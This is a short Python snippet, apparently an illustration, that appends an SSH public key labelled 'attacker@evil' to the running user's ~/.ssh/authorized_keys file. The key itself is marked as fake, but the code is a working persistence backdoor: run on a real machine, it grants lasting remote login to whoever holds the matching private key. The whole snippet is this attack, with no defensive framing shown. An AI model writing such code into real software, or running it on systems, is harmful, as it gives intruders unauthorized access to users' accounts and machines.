import os
path = os.path.join(os.path.expanduser("~"), ".ssh", "authorized_keys")
with open(path, "a") as fh:
    fh.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForIllustration attacker@evil\n")
